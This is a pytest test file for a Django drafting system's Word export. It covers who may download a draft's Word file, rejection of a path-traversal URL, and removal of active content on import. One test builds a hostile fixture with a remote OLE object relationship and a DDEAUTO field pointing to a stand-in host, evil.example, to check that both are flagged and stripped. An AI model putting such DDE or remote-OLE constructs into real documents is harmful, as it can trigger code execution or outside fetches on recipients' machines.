"""The draft's own Word file: who gets it, and what is in it."""

from __future__ import annotations

from typing import Any

import pytest

from audit.models import Entry
from documents.actions.import_word import import_word
from documents.actions.save_section import save_section
from documents.choices import Classification
from documents.editions import blobs
from documents.editions.text_storage import load_tree
from documents.models import BlobUse, Section
from documents.word import FindingCode
from documents.word.file.guard import open_package
from documents.word.read.read import read_package
from people.roles import Role
from tests.support.documents.desk.fixtures import Desk
from tests.support.documents.word.build import HEADINGS, OFFICE, parts_of, word_file
from tests.support.factories import body, make_draft, make_institution, make_person, narrow

SOURCE = word_file(
    '<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Цел</w:t></w:r></w:p>'
    '<w:p><w:r><w:rPr><w:color w:val="AA0000"/></w:rPr><w:t>Првиот текст.</w:t></w:r></w:p>'
    "<w:p><w:pPr><w:pStyle "
    'w:val="Heading1"/></w:pPr><w:r><w:t>Опсег</w:t></w:r></w:p><w:p><w:r><w:t>Вториот.</w:t></w:r></w:p>',
    styles=HEADINGS,
)


@pytest.mark.django_db
def test_drafters_get_their_own_file_with_the_text_as_it_is_now(as_: Any) -> None:
    owner = make_institution()
    drafter = make_person(Role.DRAFTER, owner)
    edition = make_draft(owner=owner, by=make_person(Role.COORDINATOR, owner), languages=["mk"])
    Section.objects.filter(edition=edition).delete()
    import_word(drafter, edition, "mk", SOURCE, "sop.docx")
    uid, sha256 = (
        Section.objects.filter(edition=edition).order_by("position").values_list("uid", "text_hash_mk")[0]
    )
    save_section(drafter, edition, str(uid), "mk", body("Цел", "Првиот нов текст."), sha256)
    response = as_(drafter).get(f"/en/desk/{edition.pk}/word/mk/")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    read = read_package(open_package(response.content)).tree
    assert [(s.uid, s.text.plain) for s in read] == [(s.uid, s.text.plain) for s in load_tree(edition, "mk")]
    assert b"AA0000" in parts_of(response.content)["word/document.xml"]
    assert Entry.objects.filter(verb="export_own").exists()


@pytest.mark.django_db
def test_nothing_active_reaches_the_next_drafter(as_: Any) -> None:
    owner = make_institution()
    drafter = make_person(Role.DRAFTER, owner)
    edition = make_draft(owner=owner, by=make_person(Role.COORDINATOR, owner), languages=["mk"])
    Section.objects.filter(edition=edition).delete()
    outside = (
        f'<Relationship Id="rX" Type="{OFFICE}oleObject" Target="http://evil.example" TargetMode="External"/>'
    )
    active = (
        '<w:p><w:fldSimple w:instr=" DDEAUTO evil.example "><w:r><w:t>Остана.</w:t></w:r></w:fldSimple></w:p>'
    )
    body = parts_of(SOURCE)["word/document.xml"].decode().split("<w:body>")[1].split("</w:body>")[0]
    data = word_file(body + active, styles=HEADINGS, relations=outside)
    outcome = import_word(drafter, edition, "mk", data, "sop.docx")
    assert outcome.report.count(FindingCode.ACTIVE) == 2
    use = BlobUse.objects.get(edition=edition, blob__kind="source")
    own = as_(drafter).get(f"/en/desk/{edition.pk}/word/mk/").content
    stored = blobs.read(use.blob)
    use.delete()
    blobs.link(
        edition,
        blobs.put(data, "source", use.blob.content_type),
        "sop.docx",
        "mk",
        drafters_only=True,
        reading=use.reading,
    )
    earlier = as_(drafter).get(f"/en/desk/{edition.pk}/word/mk/").content
    for one in (stored, own, earlier):
        parts = parts_of(one)
        assert not [name for name, part in parts.items() if b"evil.example" in part]
        assert "Остана.".encode() in parts["word/document.xml"] and b"AA0000" in parts["word/document.xml"]


def test_a_text_written_here_has_a_file_too(desk: Desk, as_: Any) -> None:
    response = as_(desk.drafter).get(desk.url("word/mk/"))
    read = read_package(open_package(response.content)).tree
    assert [s.uid for s in read] == [s.uid for s in load_tree(desk.edition, "mk")]
    assert f"/en/desk/{desk.edition.pk}/word/mk/" in as_(desk.drafter).get(desk.url("word/")).content.decode()


def test_nobody_else_gets_it(desk: Desk, as_: Any) -> None:
    for person in (desk.translator, desk.reviewer, desk.practitioner, desk.stranger):
        assert as_(person).get(desk.url("word/mk/")).status_code == 404
    assert as_(desk.drafter).get(desk.url("word/hr/")).status_code == 404
    assert as_(desk.drafter).get(desk.url("word/..%2fmk/")).status_code == 404
    assert as_(desk.drafter).post(desk.url("word/mk/")).status_code == 405
    narrow(Classification.TLP_RED, desk.edition.instrument_id)
    assert as_(desk.coordinator).get(desk.url("word/mk/")).status_code == 404
